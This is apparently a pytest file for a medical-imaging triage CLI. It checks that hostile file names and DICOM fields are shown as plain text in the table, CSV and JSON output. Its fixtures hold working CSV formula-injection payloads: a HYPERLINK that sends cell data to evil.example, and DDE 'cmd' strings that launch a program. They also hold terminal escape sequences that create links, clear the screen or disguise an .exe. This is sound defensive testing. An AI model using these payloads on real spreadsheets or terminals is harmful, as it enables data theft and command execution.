"""``cxr-triage worklist`` shows what senders wrote (file names, DICOM fields) as text.

File names and header fields are attacker-controlled: Rich must not interpret them as
markup (``[/x]`` crashed the table, ``[link=...]`` became a hyperlink), and a CSV opened in
a spreadsheet must not run them as formulas.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from db import migrate
from db.engine import make_engine, make_session_factory
from db.worklist import Arrival, admit
from tests.processes import cli, cli_json, service_env
from worker import resources
from worker.cli import app
from worker.settings import get_settings

HOSTILE_NAMES = [
    "[/x]",
    "[link=https://evil.example/steal]click me[/link]",
    "[bold red]URGENT[/bold red]",
    '=HYPERLINK("https://evil.example/?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_worklist(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> list[str]:
    url = f"sqlite:///{tmp_path / 'worklist.sqlite3'}"
    migrate.upgrade(url)
    engine = make_engine(url)
    with make_session_factory(engine).begin() as session:
        for n, name in enumerate(HOSTILE_NAMES):
            admit(
                session,
                Arrival(f"{n:064x}", name, f"/inbox/{n}", accession_number=name[:16]),
            )
    engine.dispose()
    monkeypatch.setenv("CXR_DATA_DIR", str(tmp_path))
    monkeypatch.setenv("CXR_DATABASE_URL", url)
    _forget_database()
    yield HOSTILE_NAMES
    _forget_database()


def _forget_database() -> None:
    """The CLI runs in this process and caches its engine: without this, a later test read
    the first test's database."""
    get_settings.cache_clear()
    if resources.get_engine.cache_info().currsize:
        resources.get_engine().dispose()
    resources.get_session_factory.cache_clear()
    resources.get_engine.cache_clear()


def test_the_table_prints_markup_in_names_as_text(hostile_worklist: list[str]):
    result = CliRunner().invoke(app, ["worklist", "--limit", "50"], env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    for name in ("[/x]", "[link=https://evil.example/steal]click me[/link]", "[bold red]URGENT"):
        assert name in result.output
    assert "\x1b]8;" not in result.output  # no terminal hyperlink


def test_csv_cells_cannot_start_a_formula(hostile_worklist: list[str]):
    result = CliRunner().invoke(app, ["worklist", "--csv", "--limit", "50"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert len(rows) == len(HOSTILE_NAMES)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    names = {row["source_name"] for row in rows}
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"ok")' in names  # kept, neutralised
    assert "[/x]" in names


#: ``--csv``'s columns as first released; spreadsheets and scripts may read them by position.
FIRST_CSV_COLUMNS = [
    "id",
    "status",
    "priority",
    "priority_rank",
    "probability",
    "label",
    "flags",
    "reason",
    "model_version",
    "threshold",
    "accession_number",
    "patient_id",
    "study_instance_uid",
    "sop_instance_uid",
    "source_name",
    "archived_path",
    "received_at",
    "started_at",
    "finished_at",
    "reviewed_at",
    "reviewed_by",
    "review_decision",
    "file_sha256",
    "results",
]


def test_csv_keeps_its_first_columns_in_place_and_adds_new_ones_at_the_end(
    hostile_worklist: list[str],
):
    result = CliRunner().invoke(app, ["worklist", "--csv", "--limit", "1"])
    assert result.exit_code == 0, result.output
    header = next(csv.reader(io.StringIO(result.stdout)))
    assert header[: len(FIRST_CSV_COLUMNS)] == FIRST_CSV_COLUMNS
    assert {"reason_detail", "source_kind"} <= set(header[len(FIRST_CSV_COLUMNS) :])


ESCAPING_NAMES = [
    "\x1b]8;;https://evil.example/steal\x1b\\click me\x1b]8;;\x1b\\.dcm",  # a hyperlink
    "\x1b[2J\x1b[Hscreen-cleared.dcm",  # clears the terminal
    "\x1b]0;window title\x07.dcm",  # retitles the window
    "c1-csi-\x9b31mred.dcm",  # an 8-bit CSI
    "report-\u202egpj.exe",  # reads as report-exe.jpg
]


def test_the_table_never_sends_a_terminal_escape_sequence_from_a_name(tmp_path: Path):
    """File names went to the terminal raw: ESC ] 8 made a hyperlink, ESC [ 2 J cleared the
    screen (issue 20). The real CLI, as an operator runs it."""
    url = f"sqlite:///{tmp_path / 'worklist.sqlite3'}"
    migrate.upgrade(url)
    engine = make_engine(url)
    with make_session_factory(engine).begin() as session:
        for n, name in enumerate(ESCAPING_NAMES):
            admit(session, Arrival(f"{n:064x}", name, f"/inbox/{n}", accession_number=name[:16]))
    engine.dispose()
    env = service_env(tmp_path, url, None, COLUMNS="400")
    shown = cli(["worklist", "--limit", "50"], env).stdout
    for byte in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert byte not in shown, repr(byte)
    assert "\\x1b]8;;https://evil.example/steal\\x1b\\click me" in shown
    assert "\\x1b[2J\\x1b[Hscreen-cleared.dcm" in shown and "\\x9b31mred" in shown
    assert "report-\\u202egpj.exe" in shown
    listed = cli_json(["worklist", "--json", "--limit", "50"], env)  # JSON keeps the names
    assert {row["source_name"] for row in listed} == set(ESCAPING_NAMES)
